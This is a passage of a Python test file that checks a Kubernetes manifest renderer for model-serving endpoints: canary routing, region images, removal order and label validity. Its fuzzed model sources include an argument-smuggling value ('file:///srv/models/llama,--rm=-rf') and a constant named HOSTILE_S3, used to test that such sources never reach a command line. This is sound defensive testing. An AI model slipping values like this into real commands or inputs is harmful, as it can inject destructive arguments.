    assert canary["metadata"]["annotations"]["nginx.ingress.kubernetes.io/canary"] == "true"
    assert canary["metadata"]["annotations"]["nginx.ingress.kubernetes.io/canary-weight"] == "20"
    assert canary["spec"]["rules"][0]["http"]["paths"][0] == {
        "path": "/inference/llm",
        "pathType": "Prefix",
        "backend": {"service": {"name": "llm-canary", "port": {"number": 80}}},
    }
    assert not [ref for ref in absent(workload, NGINX) if ref.kind == "Ingress"]
    # Canary removed: its Ingress is deleted before anything is applied.
    first = steps(planned(), NGINX)[0]
    assert (first.verb, first.ref.kind, first.ref.name) == ("delete", "Ingress", "llm-canary")


def test_the_service_account_is_set_only_when_the_region_names_one() -> None:
    region = RegionSettings(service_account="inference")
    workload = planned(**CANARY)

    for manifest in render(workload, region):
        if manifest["kind"] == "Deployment":
            assert pod(manifest)["serviceAccountName"] == "inference"
    assert "serviceAccountName" not in pod(by_kind(render(workload, ALB), "Deployment", "llm"))


def test_a_region_image_override_reaches_that_regions_deployments_only() -> None:
    spec: dict[str, Any] = {"region_images": {"r2": "registry.eu.example/server:1.0"}}
    override = render(planned(region="r2", regions=["r1", "r2"], **spec), ALB)
    base = render(planned(region="r1", regions=["r1", "r2"], **spec), ALB)

    assert container(by_kind(override, "Deployment"))["image"] == "registry.eu.example/server:1.0"
    assert container(by_kind(base, "Deployment"))["image"] == "ghcr.io/example/server:1.0"
    # A canary without an image of its own follows the region's image.
    canary = render(planned(region="r2", regions=["r1", "r2"], canary={"weight": 5}, **spec), ALB)
    assert (
        container(by_kind(canary, "Deployment", "llm-canary"))["image"]
        == "registry.eu.example/server:1.0"
    )


def test_a_command_only_endpoint_is_unsupported_naming_the_field() -> None:
    workload = planned(image=None, command=["python", "-m", "server"])

    with pytest.raises(WorkloadUnsupported, match=r"^image: kubernetes regions"):
        render(workload, ALB)
    # The refs are known without rendering: a region can still remove the endpoint.
    assert absent(workload, ALB)


def test_a_canary_without_an_image_is_unsupported_naming_the_canary_field() -> None:
    workload = planned(**CANARY)
    broken = workload.model_copy(
        update={"canary": workload.canary.model_copy(update={"image": None})}  # type: ignore[union-attr]
    )

    with pytest.raises(WorkloadUnsupported, match=r"^canary\.image: "):
        render(broken, ALB)


def test_all_objects_lists_everything_in_removal_order() -> None:
    assert [(ref.kind, ref.name) for ref in all_objects("llm", "ns")] == [
        ("Ingress", "llm-canary"),
        ("Ingress", "llm"),
        ("ScaledObject", "llm"),
        ("HorizontalPodAutoscaler", "llm"),
        ("Deployment", "llm-canary"),
        ("Deployment", "llm"),
        ("Service", "llm-canary"),
        ("Service", "llm"),
    ]
    assert {ref.namespace for ref in all_objects("llm", "ns")} == {"ns"}
    assert {(ref.api_version, ref.kind) for ref in all_objects("llm", "ns")} == set(MANAGED_KINDS)


def test_the_replicas_handoff_holds_nothing_but_the_replica_count() -> None:
    """The body `HANDOFF_MANAGER` applies before servefleet's first apply without
    `replicas`: any other field in it would become co-owned and conflict later."""
    workload = planned(**AUTOSCALING, namespace="team-a")

    assert replicas_handoff(workload, ALB, 5) == {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "llm", "namespace": "team-a"},
        "spec": {"replicas": 5},
    }


def test_selectors() -> None:
    assert endpoint_selector("llm") == (
        "app.kubernetes.io/managed-by=servefleet,app.kubernetes.io/name=llm"
    )


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        pytest.param({"startup_timeout": 0}, "startup_timeout", id="zero-timeout"),
        pytest.param({"startup_timeout": float("nan")}, "startup_timeout", id="nan-timeout"),
        pytest.param({"startup_timeout": float("inf")}, "startup_timeout", id="inf-timeout"),
        pytest.param({"namespace": "Bad_NS"}, "namespace", id="bad-namespace"),
        pytest.param({"namespace": "n" * 64}, "namespace", id="long-namespace"),
    ],
)
def test_region_settings_refuse_values_kubernetes_would(
    overrides: dict[str, Any], message: str
) -> None:
    with pytest.raises(ValueError, match=f"^{message}: "):
        RegionSettings(**overrides)


# Properties.

_QUALIFIED_NAME = re.compile(r"^[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?\Z")
_DNS_SUBDOMAIN = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*\Z")
_LABEL_VALUE = re.compile(r"^([A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?)?\Z")
_DNS_LABEL = re.compile(r"^[a-z]([-a-z0-9]*[a-z0-9])?\Z")


def valid_key(key: str) -> bool:
    prefix, _, name = key.rpartition("/")
    if prefix and (len(prefix) > 253 or not _DNS_SUBDOMAIN.match(prefix)):
        return False
    return len(name) <= 63 and bool(_QUALIFIED_NAME.match(name))


_LABEL_KEYS = st.sampled_from(
    ["team", "example.com/tier", "app.kubernetes.io/name", "servefleet.io/role", "a.b-c_d"]
)
_LABEL_VALUES = st.from_regex(r"([a-z0-9]([-a-z0-9_.]{0,20}[a-z0-9])?)?", fullmatch=True)
_MODEL_SOURCES = st.one_of(
    st.none(),
    st.sampled_from(
        [
            HOSTILE_S3,
            "hf://meta-llama/Llama-3.1-8B@refs/pr/1",
            "gs://bucket_1/a/b=c",
            "file:///srv/models/llama,--rm=-rf",
        ]
    ),
    st.from_regex(r"s3://[a-z0-9]{3,10}/[A-Za-z0-9._\-/+=@%,]{0,30}", fullmatch=True),
)
_ARGV = st.lists(
    st.one_of(
        st.sampled_from(["--port", "{port}", "--model=/models", "-c"]), process_text(max_size=8)
    ),
    max_size=4,
)


@st.composite
def workloads(draw: st.DrawFn) -> Workload:
    accelerator = draw(st.sampled_from(["none", "nvidia", "neuron"]))
    spec: dict[str, Any] = {
        "replicas": draw(st.integers(0, 5)),
        "port": draw(st.integers(1, 65535)),
        "accelerator": accelerator,
        "gpu_count": 0 if accelerator == "none" else draw(st.integers(0, 16)),
        "capacity_type": draw(st.sampled_from([None, "spot", "on-demand"])),
        "node_selector": draw(st.dictionaries(_LABEL_KEYS, _LABEL_VALUES, max_size=2)),
        "labels": draw(st.dictionaries(_LABEL_KEYS, _LABEL_VALUES, max_size=3)),
        "env": draw(
            st.dictionaries(
                st.from_regex(r"[A-Z_][A-Z0-9_]{0,8}", fullmatch=True), process_text(max_size=8)
            )
        ),
        "model_source": draw(_MODEL_SOURCES),
        "model_path": draw(st.sampled_from([None, "/models", "/mnt/m-1"])),
        "args": draw(st.one_of(st.none(), _ARGV)),
        "command": draw(st.one_of(st.none(), _ARGV)),
        "namespace": draw(st.sampled_from([None, "team-a"])),
        "region_images": draw(st.sampled_from([{}, {"r2": "registry.eu.example/server:1.0"}])),
    }
    if draw(st.booleans()):
        spec["canary"] = {
            "weight": draw(st.integers(1, 99)),
            "replicas": draw(st.integers(1, 3)),
            "image": draw(st.sampled_from([None, "ghcr.io/example/server:2.0"])),
            "args": draw(st.one_of(st.none(), _ARGV)),
        }
    if draw(st.booleans()):
        low = draw(st.integers(0, 3))
        kinds = draw(
            st.lists(st.sampled_from(["cpu", "memory", "concurrency", "rps"]), unique=True)
        )
        if low == 0 and not {"concurrency", "rps"} & set(kinds):
            kinds.append("concurrency")  # the spec's rule for scaling to zero
        spec["autoscaling"] = {
            "enabled": True,
            "min_replicas": low,
            "max_replicas": draw(st.integers(max(1, low), 10)),
            "metrics": [{"type": kind, "target": draw(st.floats(0.001, 500))} for kind in kinds],
            "scale_to_zero_after": draw(st.integers(1, 900)),
            "scale_down_window": draw(st.integers(1, 600)),
        }
    return planned(
        draw(st.from_regex(r"[a-z]([-a-z0-9]{0,43}[a-z0-9])?", fullmatch=True)),
        region=draw(st.sampled_from(["r1", "r2"])),
        regions=["r1", "r2"],
        state=draw(st.sampled_from([DesiredState.DEPLOYING, DesiredState.STOPPED])),
        unrouted=draw(st.booleans()),
        **spec,
    )


region_settings = st.builds(
    RegionSettings,
    canary_routing=st.sampled_from(["alb", "nginx"]),
    pods_metrics=st.booleans(),
    service_account=st.sampled_from([None, "inference"]),
    startup_timeout=st.floats(1, 3600),
    model_volume_size_limit=st.sampled_from([None, "100Gi"]),
)

PROPERTIES = settings(max_examples=150, deadline=None)


@PROPERTIES
@given(workload=workloads(), region=region_settings)
def test_render_is_deterministic(workload: Workload, region: RegionSettings) -> None:
    again = Workload.model_validate(json.loads(workload.model_dump_json()))

    first = render(workload, region)
    assert render(again, region) == first
    assert json.dumps(render(workload, region)) == json.dumps(first)
    assert steps(workload, region) == steps(again, region)


@pytest.mark.slow(seconds=21)
@PROPERTIES
@given(workload=workloads(), region=region_settings)
def test_rendered_objects_are_valid_kubernetes_objects(
    workload: Workload, region: RegionSettings
) -> None:
    digest = workload_hash(workload)
    for manifest in render(workload, region):
        validate(manifest)
        metadata = manifest["metadata"]
        assert len(metadata["name"]) <= 63
        assert _DNS_LABEL.match(metadata["name"])
        assert metadata["annotations"][ANNOTATION_HASH] == digest
        assert metadata["labels"][LABEL_NAME] == workload.endpoint
        assert metadata["labels"][LABEL_MANAGED_BY] == "servefleet"
        label_sets = [metadata["labels"]]
        annotation_sets = [metadata["annotations"]]
        if manifest["kind"] == "Deployment":
            template = manifest["spec"]["template"]
            label_sets += [
                template["metadata"]["labels"],
                manifest["spec"]["selector"]["matchLabels"],
            ]
            annotation_sets.append(template["metadata"]["annotations"])
            label_sets.append(pod(manifest).get("nodeSelector", {}))
            assert set(manifest["spec"]["selector"]["matchLabels"].items()) <= set(
                template["metadata"]["labels"].items()
            )
        for labels in label_sets:
            for key, value in labels.items():
                assert valid_key(key), key
                assert len(value) <= 63, value
                assert _LABEL_VALUE.match(value), value
        for keys in annotation_sets:
            assert all(valid_key(key) for key in keys), keys


@PROPERTIES
@given(workload=workloads(), region=region_settings)
def test_a_model_source_never_reaches_a_command_line(
    workload: Workload, region: RegionSettings
) -> None:
    manifests = render(workload, region)
    for item in containers(manifests):
        argv = item.get("command", []) + item.get("args", [])
        if workload.model_source:
            assert all(workload.model_source not in part for part in argv)
        if item["name"] == "stage-model":
            assert argv == ["python", "-m", "servefleet.stage"]
            assert env_of(item)["SERVEFLEET_MODEL_SOURCE"] == workload.model_source


@PROPERTIES
@given(workload=workloads(), region=region_settings)
def test_render_absent_and_steps_agree(workload: Workload, region: RegionSettings) -> None:
    """What is rendered and what must be absent split `all_objects` exactly; the
    replica count is omitted exactly while autoscaling owns it; the Ingress
    exists exactly while routed; removal walks apply order backwards."""
    manifests = render(workload, region)
    rendered = [ObjectRef.of(m) for m in manifests]
    gone = absent(workload, region)
    everything = all_objects(workload.endpoint, namespace_of(workload, region))

    assert not set(rendered) & set(gone)
    assert set(rendered) | set(gone) == set(everything)
    assert gone == [ref for ref in everything if ref in gone]
    assert rendered == [ref for ref in reversed(everything) if ref in rendered]
    primary = by_kind(manifests, "Deployment", workload.endpoint)
    assert ("replicas" in primary["spec"]) == (workload.autoscaling is None)
    routes = [ref for ref in rendered if ref.kind == "Ingress"]
    assert bool(routes) == workload.routed
    plan = steps(workload, region)
    assert [step.ref for step in plan if step.verb == "apply"] == rendered
    assert [step.manifest for step in plan if step.verb == "apply"] == manifests
    assert sorted((step.ref for step in plan if step.verb == "delete"), key=repr) == sorted(
        gone, key=repr
    )
    if workload.canary is not None and workload.routed and region.canary_routing == "alb":
        ingress = by_kind(manifests, "Ingress")
        action = json.loads(
            ingress["metadata"]["annotations"][
                f"alb.ingress.kubernetes.io/actions.{workload.endpoint}-weighted"
            ]
        )
        weights = [group["weight"] for group in action["forwardConfig"]["targetGroups"]]
        assert sum(weights) == 100
        assert weights[1] == workload.canary_weight
